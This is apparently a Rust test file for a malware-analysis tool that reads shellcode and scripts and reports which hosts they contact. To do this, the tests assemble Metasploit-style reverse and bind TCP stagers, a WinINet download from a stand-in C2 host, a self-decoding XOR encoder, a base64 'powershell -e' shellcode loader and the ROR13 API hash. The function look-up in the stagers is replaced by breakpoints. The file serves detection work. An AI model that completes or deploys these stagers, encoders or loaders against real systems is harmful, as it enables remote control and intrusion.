//! Machine code is read for whom it calls. The codes are put together here and cannot run: where Metasploit's have their
//! look-up of functions, these have a breakpoint.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test may panic")]

use base64::Engine as _;
use strongroom_files::script::{Action, Budget};
use strongroom_files::shellcode::{Reading, read};
use strongroom_model::{Limits, Role, Verdict};

fn reading(code: &[u8]) -> Reading {
    let limits = Limits::default();
    read(code, &mut Budget::new(&limits))
}

fn actions(reading: &Reading) -> Vec<String> {
    reading
        .calls
        .iter()
        .filter_map(|call| match call.action.as_ref()? {
            Action::Connect { host, port } => Some(format!("connect {host} {}", port.unwrap_or(0))),
            Action::Download { url, .. } => Some(format!("fetch {url}")),
            Action::Listen { at } => Some(format!("listen {at}")),
            Action::Start { command } => Some(format!("start {command}")),
            other => Some(format!("{other:?}")),
        })
        .collect()
}

/// `cld; call behind the look-up`, the look-up a breakpoint, `pop ebp` and the body.
fn stager(body: &[u8]) -> Vec<u8> {
    let mut code = vec![0xfc, 0xe8, 4, 0, 0, 0, 0x60, 0x89, 0xe5, 0xcc, 0x5d];
    code.extend_from_slice(body);
    code
}

/// `push hash; call ebp`
fn call(hash: u32) -> Vec<u8> {
    let mut code = vec![0x68];
    code.extend(hash.to_le_bytes());
    code.extend([0xff, 0xd5]);
    code
}

/// A socket, and `connect` or `bind` to an IPv4 address.
fn socket(to: u32, ip: [u8; 4], port: u16) -> Vec<u8> {
    // xor eax, eax; five times push eax; inc eax …
    let mut body = vec![0x31, 0xc0, 0x50, 0x50, 0x50, 0x50, 0x40, 0x50, 0x40, 0x50];
    body.extend(call(0xe0df_0fea));
    body.extend([0x97, 0x68]); // xchg edi, eax; push ip
    body.extend(ip);
    body.extend([0x68, 2, 0]);
    body.extend(port.to_be_bytes());
    body.extend([0x89, 0xe6, 0x6a, 16, 0x56, 0x57]); // mov esi, esp; push 16; push esi; push edi
    body.extend(call(to));
    body.extend([0x6a, 0, 0x6a, 4, 0x56, 0x57]);
    body.extend(call(0x5fc8_d902));
    body
}

fn reverse() -> Vec<u8> {
    stager(&socket(0x6174_a599, [192, 0, 2, 7], 4444))
}

#[test]
fn sockets_name_their_peer_or_their_port() {
    assert_eq!(actions(&reading(&reverse())), ["connect 192.0.2.7 4444"]);
    assert_eq!(reading(&reverse()).stopped, None);
    let bound = stager(&socket(0x6737_dbc2, [0, 0, 0, 0], 8443));
    assert_eq!(actions(&reading(&bound)), ["listen port 8443"]);
}

#[test]
fn a_request_over_wininet_is_a_url() {
    // jmp to the end; there `call` back pushes the host's address.
    let mut body = vec![0x31, 0xdb, 0xeb, 0];
    let after = body.len();
    body.extend([0x59]); // pop ecx: the host
    body.extend([0x53, 0x53, 0x6a, 3, 0x53, 0x53, 0x68]);
    body.extend(8443_u32.to_le_bytes());
    body.extend([0x51, 0x50]);
    body.extend(call(0xc69f_8957));
    body.extend([0xe8, 8, 0, 0, 0]);
    body.extend(b"/wp/a.p\0");
    body.push(0x59); // pop ecx: the path
    body.extend([
        0x53, 0x68, 0, 0x32, 0xe0, 0x84, 0x53, 0x53, 0x53, 0x51, 0x53, 0x50,
    ]);
    body.extend(call(0x3b2e_55eb));
    body.extend(call(0x56a2_b5f0));
    body[after - 1] = u8::try_from(body.len() - after).unwrap();
    let back = i32::try_from(after).unwrap() - i32::try_from(body.len() + 5).unwrap();
    body.push(0xe8);
    body.extend(back.to_le_bytes());
    body.extend(b"c2.example\0");
    assert_eq!(
        actions(&reading(&stager(&body))),
        ["connect c2.example 8443", "fetch https://c2.example:8443/wp/a.p"]
    );
}

#[test]
fn sixty_four_bits_are_read_too() {
    // cld; and rsp, -16; call; the look-up; pop rbp
    let mut code = vec![
        0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8, 6, 0, 0, 0, 0x41, 0x51, 0x41, 0x50, 0x52, 0xcc, 0x5d,
    ];
    // mov r12, sockaddr; push r12; mov rdx, rsp; push 16; pop r8; mov r10d, connect; call rbp
    code.extend([
        0x49, 0xbc, 2, 0, 0x1f, 0x90, 203, 0, 113, 9, 0x41, 0x54, 0x48, 0x89, 0xe2, 0x6a, 16, 0x41, 0x58,
    ]);
    code.extend([0x41, 0xba, 0x99, 0xa5, 0x74, 0x61, 0xff, 0xd5]);
    // mov r10d, ExitProcess; call rbp
    code.extend([0x41, 0xba, 0xf0, 0xb5, 0xa2, 0x56, 0xff, 0xd5]);
    let reading = reading(&code);
    assert_eq!(
        (actions(&reading), reading.bits),
        (vec!["connect 203.0.113.9 8080".to_owned()], 64)
    );
}

/// Code that decodes the rest of itself, as `shikata_ga_nai` does it: each word under a key that the plain words change.
fn encoded(inner: &[u8], mut key: u32) -> Vec<u8> {
    let mut inner = inner.to_vec();
    inner.resize(inner.len().next_multiple_of(4), 0x90);
    let mut code = vec![0xd9, 0xee]; // fldz
    code.push(0xb8); // mov eax, key
    code.extend(key.to_le_bytes());
    code.extend([0xd9, 0x74, 0x24, 0xf4, 0x5e]); // fnstenv [esp-12]; pop esi
    code.extend([0x31, 0xc9, 0xb1, u8::try_from(inner.len() / 4).unwrap()]); // xor ecx, ecx; mov cl, n
    let start = u8::try_from(code.len() + 11).unwrap();
    code.extend([0x31, 0x46, start]); // xor [esi+start], eax
    code.extend([0x03, 0x46, start]); // add eax, [esi+start]
    code.extend([0x83, 0xc6, 4, 0xe2, 0xf5]); // add esi, 4; loop
    for word in inner.chunks_exact(4) {
        let plain = u32::from_le_bytes(word.try_into().unwrap());
        code.extend((plain ^ key).to_le_bytes());
        key = key.wrapping_add(plain);
    }
    code
}

#[test]
fn code_that_decodes_itself_does_so_here() {
    let once = encoded(&reverse(), 0x1357_9bdf);
    let twice = encoded(&once, 0xdead_0001);
    for code in [once, twice] {
        assert_eq!(actions(&reading(&code)), ["connect 192.0.2.7 4444"]);
    }
}

#[test]
fn what_is_no_code_calls_nobody_and_ends() {
    let mut noise = Vec::new();
    let mut state = 1_u32;
    for _ in 0..4000 {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        noise.push((state >> 24) as u8);
    }
    assert!(!reading(&noise).is_code());
    assert!(!reading(&[0xeb, 0xfe]).is_code(), "a jump to itself");
    assert!(!reading(b"").is_code());
}

#[test]
fn a_script_that_runs_code_is_judged_by_whom_the_code_calls() {
    let bytes: Vec<String> = encoded(&reverse(), 0x0102_0304)
        .iter()
        .map(|byte| format!("0x{byte:02x}"))
        .collect();
    let script = format!(
        "[Byte[]]$z = {};$x=$w::VirtualAlloc(0,0x1000,$z.Length,0x40);for ($i=0;$i -le ($z.Length-1);$i++) {{$w::memset([IntPtr]($x.ToInt32()+$i), $z[$i], 1)}};$w::CreateThread(0,0,$x,0,0,0)",
        bytes.join(",")
    );
    let units: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let line = format!(
        "powershell -e {}",
        base64::engine::general_purpose::STANDARD.encode(units)
    );
    let report = strongroom_files::examine("a.cmd", line.as_bytes(), &Limits::default());
    assert_eq!(report.verdict(), Verdict::Malicious);
    let c2 = report
        .observables
        .iter()
        .find(|seen| seen.role == Role::C2)
        .unwrap();
    assert_eq!(c2.observable.value(), "192.0.2.7:4444");
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.code == "script.code-calls")
    );
}

#[test]
fn code_whose_reading_stops_is_searched_for_whom_it_names() {
    // A floating-point store, which no reading goes beyond, before the call.
    let mut code = stager(&[0xdd, 0x1c, 0x24]);
    code.extend(socket(0x6174_a599, [192, 0, 2, 7], 4444));
    code.extend(b"\0http://c2.example/x\0back.example\0");
    let read = reading(&code);
    assert!(!read.is_code());
    assert_eq!(
        read.plain,
        ["http://c2.example/x", "back.example", "192.0.2.7:4444"]
    );
    let bytes: Vec<String> = code.iter().map(|byte| format!("0x{byte:02x}")).collect();
    let script = format!("[Byte[]]$z = {};$w::CreateThread(0,0,$z,0,0,0)", bytes.join(","));
    let report = strongroom_files::examine("a.ps1", script.as_bytes(), &Limits::default());
    assert!(
        report
            .gaps
            .iter()
            .any(|gap| gap.hides && gap.why.contains("machine code"))
    );
    let named: Vec<&str> = report
        .observables
        .iter()
        .map(|seen| seen.observable.value())
        .collect();
    for name in ["back.example", "http://c2.example/x", "192.0.2.7:4444"] {
        assert!(named.contains(&name), "{named:?}");
    }
    assert!(reading(&reverse()).plain.is_empty());
}

#[test]
fn calls_that_copy_much_use_the_steps_up() {
    // push 0x2000; push 1; push a place behind the code; push the hash of memset …, again and again.
    let mut body = vec![0xe8, 0, 0, 0, 0, 0x5f, 0x81, 0xc7, 0, 0x10, 0, 0]; // call +0; pop edi; add edi, 0x1000
    let top = body.len();
    body.extend([0x68, 0, 0x20, 0, 0, 0x6a, 1, 0x57]);
    body.extend(call(memset()));
    body.extend([0x83, 0xc4, 12]); // the caller takes the arguments off
    let back = i8::try_from(top as i64 - (body.len() as i64 + 2)).unwrap();
    body.extend([0xeb, back as u8]);
    // A run of instructions alone would go round sixty thousand times.
    let read = reading(&stager(&body));
    assert_eq!(read.calls.len(), 1, "{read:?}");
    assert!(
        read.stopped.as_deref().is_some_and(|why| why.contains("steps")),
        "{read:?}"
    );
}

/// The hash of `memset`, as Metasploit's `block_api` counts it: both names, rotated by 13 bits and summed up.
fn memset() -> u32 {
    let rotated = |hash: u32, byte: u8| hash.rotate_right(13).wrapping_add(u32::from(byte));
    let wide = b"MSVCRT.DLL\0"
        .iter()
        .fold(0, |hash, byte| rotated(rotated(hash, *byte), 0));
    b"memset\0"
        .iter()
        .fold(0, |hash, byte| rotated(hash, *byte))
        .wrapping_add(wide)
}
